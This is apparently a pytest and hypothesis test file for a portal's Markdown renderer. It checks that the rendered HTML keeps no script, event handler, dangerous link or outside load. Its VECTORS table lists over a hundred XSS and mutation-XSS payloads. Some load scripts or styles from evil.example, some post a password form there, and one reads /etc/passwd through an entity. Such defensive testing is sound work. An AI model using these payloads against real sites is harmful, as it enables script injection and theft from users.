"""What could run, load from elsewhere or imitate the page never comes out of a writer's Markdown."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.markup import render
from tests.inspecting import inspected

#: Pieces that hypothesis joins to texts, so that it gets past plain words.
TOKENS = (
    *("<script>", "</script>", "<img ", "<svg ", "<math>", "<style>", "<a href=", "<table>", "<table id=x>", "<pre>"),
    *("</table>", "<p ", "</p>", "<div ", "</div>", "<h1>", "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>", "<!", ">"),
    *("onerror=alert(1)", "onclick=x ", "style=x ", "src=x", "id=ui-main", "javascript:", "java\tscript:"),
    *("data:text/html,", "&#106;", "&colon;", "&lt;", "\0", "\x02", "\x03", "'", '"', "`", "```", "[a]("),
    *("[a]: ", "![", "](", ")", "{: ", " }", "\n", "\n\n", "    ", "# ", "=== ", "- ", "1. ", "> ", "| a ", "|---|"),
    *("!!! note", "[^1]", "[^1]: ", "slug.md", "ё"),
)  # fmt: skip

VECTORS = {
    "script": "<script>alert(1)</script>",
    "script, capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script, slash": "<script/x>alert(1)</script/x>",
    "script, unclosed": "text <script>alert(1)",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, double bracket": "<<script>alert(1)//<</script>",
    "script in list": "- a\n- <script>alert(1)</script>",
    "script in table": "| a |\n|---|\n| <script>alert(1)</script> |",
    "script in heading": "## <script>alert(1)</script> {#a}",
    "script in title of admonition": '!!! note "<script>alert(1)</script>"\n    x',
    "script in footnote": "a[^1]\n\n[^1]: <script>alert(1)</script>",
    "script after code": "`</code><script>alert(1)</script>`",
    "script in fence": "```\n</code></pre><script>alert(1)</script>\n```",
    "language of fence": '``` "><script>alert(1)</script>\nx\n```',
    "attributes of fence": "``` { .python onclick=alert(1) }\nx\n```",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img, slashes": "<img/src=x/onerror=alert(1)>",
    "img, no space": '<img src="x"onerror="alert(1)">',
    "img, backticks": "<img src=`x` onerror=alert(1)>",
    "img, unclosed": "<img src=x onerror=alert(1) ",
    "img, new lines": "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "img, javascript": "<img src=javascript:alert(1)>",
    "img, dynsrc": "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "img, srcset": "<img srcset='https://evil.example/a 1x'>",
    "img from elsewhere": "![a](https://evil.example/pixel.gif)",
    "img, data": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "img, climbing": "![a](images/../../../secret)",
    "img, title breaks out": "![a](images/a.png \"x' onerror='alert(1)\")",
    "img, alt breaks out": '![" onerror="alert(1)](images/a.png)',
    "img, alt with tags": "![><img src=x onerror=alert(1)>](images/a.png)",
    "img without src": "<img alt='><img src=x onerror=alert(1)>'>",
    "img attr_list": "![a](images/a.png){ onerror=alert(1) onload=alert(1) }",
    "onmouseover": "<b onmouseover=alert(1)>x</b>",
    "onfocus, autofocus": "<input onfocus=alert(1) autofocus>",
    "onclick, capitals": "<p ONCLICK=alert(1)>x</p>",
    "ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "onload of body": "<body onload=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=x onerror=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "javascript link": "[a](javascript:alert(1))",
    "javascript, mixed case": "[a](JaVaScRiPt:alert(1))",
    "javascript, entity": "[a](javascript&colon;alert(1))",
    "javascript, number entities": "<a href='&#106;&#97;&#118;&#x61;script&#58;alert(1)'>a</a>",
    "javascript, no semicolons": "<a href='&#0000106&#0000097&#0000118&#0000097script:alert(1)'>a</a>",
    "javascript, tab": "<a href='java\tscript:alert(1)'>a</a>",
    "javascript, tab entity": "<a href='jav&#x09;ascript:alert(1)'>a</a>",
    "javascript, new line": "<a href='java\nscript:alert(1)'>a</a>",
    "javascript, control before": "<a href='&#1;javascript:alert(1)'>a</a>",
    "javascript, space before": "<a href=' javascript:alert(1)'>a</a>",
    "javascript, NUL": "<a href='java\0script:alert(1)'>a</a>",
    "javascript after a line": "<a href='https://x\njavascript:alert(1)' onclick=x>a</a>",
    "javascript in angle brackets": "[a](<javascript:alert(1)>)",
    "data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[a](vbscript:msgbox(1))",
    "file link": "[a](file:///etc/passwd)",
    "relative link": "[a](/en/sign-out)",
    "link without scheme": "[a](//evil.example)",
    "backslashes": r"[a](\\evil.example)",
    "reference link": "[a][r]\n\n[r]: javascript:alert(1)",
    "reference link, data": "[r]\n\n[r]: <data:text/html,x> 'title'",
    "autolink": "<javascript:alert(1)>",
    "link title breaks out": "[a](https://x.example 'y\" onclick=\"alert(1)')",
    "link breaks out": '[a](https://x.example"onclick="alert(1))',
    "link target": "<a href=https://x.example target=_blank ping=https://evil.example download>a</a>",
    "attr_list onclick": "[a](vpn.md){ onclick=alert(1) style=position:fixed }",
    "attr_list, block": "Text\n{: onclick=alert(1) style=color:red href=javascript:alert(1) }",
    "attr_list, heading": "## A {: #a onmouseover=alert(1) }",
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "style attribute": "<p style='background:url(javascript:alert(1))'>x</p>",
    "style of cell": "| a |\n|--:|\n| b |\n",
    "link element": "<link rel=stylesheet href=https://evil.example/x.css>",
    "meta": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "base": "<base href=https://evil.example/>",
    "iframe": "<iframe src=javascript:alert(1)></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=javascript:alert(1)></object>",
    "embed": "<embed src=javascript:alert(1)>",
    "applet": "<applet code=x></applet>",
    "form": "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</form>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "frameset": "<frameset onload=alert(1)><frame src=x></frameset>",
    "svg": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>#x'/></svg>",
    "math": "<math href=javascript:alert(1)>x</math>",
    "math link": "<math><maction xlink:href=javascript:alert(1)>x</maction></math>",
    "mutation: math, style": "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img onerror=x&gt;'>",
    "mutation: svg, style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation: noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation: textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "mutation: title": "<title><a id='</title><img src=x onerror=alert(1)>'>",
    "mutation: template": "<template><script>alert(1)</script></template>",
    "mutation: form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation: xmp": "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "mutation: our own frame": "<p title='<table><img src=x onerror=alert(1)>'>x</p>",
    "mutation: our own code": "<p title='<pre><img src=x onerror=alert(1)>'>x</p>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "comment": "<!-- <script>alert(1)</script> -->",
    "comment, odd end": "<!--><script>alert(1)</script>-->",
    "comment, bang end": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment, conditional": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php x ?>",
    "declaration": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "NUL in tag": "<scr\0ipt>alert(1)</scr\0ipt>",
    "NUL in attribute": "<img src=x on\0error=alert(1)>",
    "placeholder of Markdown": "\x02wzxhzdk:0\x03 <script>alert(1)</script>",
    "entities stay text": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "wide brackets": "＜script＞alert(1)＜/script＞",
    "custom element": "<x-y onclick=alert(1) is=z>x</x-y>",
    "closing tags": "</div></main></body></html>",
    "closing table": "<table id=x><tr><td>a</td></tr></table>",
}  # fmt: skip


@pytest.mark.parametrize("body", VECTORS.values(), ids=VECTORS.keys())
def test_nothing_that_could_run_or_imitate_the_page_is_left(body: str) -> None:
    """Known attacks leave allowed tags and attributes, addresses of allowed kinds and balanced elements only."""
    html = render(f"Before\n\n{body}\n", "en").html

    assert inspected(html).faults == []
    assert html.startswith("<p>Before</p>")


@pytest.mark.parametrize(
    ("html", "fault"),
    [
        ("<script>x</script>", "<script>"),
        ("<p onclick='x'>a</p>", "onclick="),
        ("<p style='x'>a</p>", "style="),
        ("<a href='java&#115;cript:x'>a</a>", "href='javascript:x'"),
        ("<a href=' javascript:x'>a</a>", "href=' javascript:x'"),
        ("<img src='https://x/y.png'>", "src='https://x/y.png'"),
        ("<p>a</p></div>", "</div>"),
        ("<!-- a -->", "<!-- a "),
        ("<?a>", "<?a"),
        ("<p>a", "<p> stays open"),
        ("<p id=ui-main>a</p>", "id=ui-main"),
    ],
)
def test_the_inspector_finds_what_it_looks_for(html: str, fault: str) -> None:
    """The check that all the others here rest on fails where it should."""
    found = inspected(html)

    assert found.faults == [fault]


@settings(deadline=None, max_examples=100)
@given(st.text(max_size=300) | st.lists(st.sampled_from(TOKENS), max_size=40).map(lambda parts: "".join(parts)[:300]))
def test_any_text_becomes_safe_html(body: str) -> None:
    """Whatever is written, it is rendered without an exception, and passes the same check."""
    html = render(body, "ru").html

    assert inspected(html).faults == []
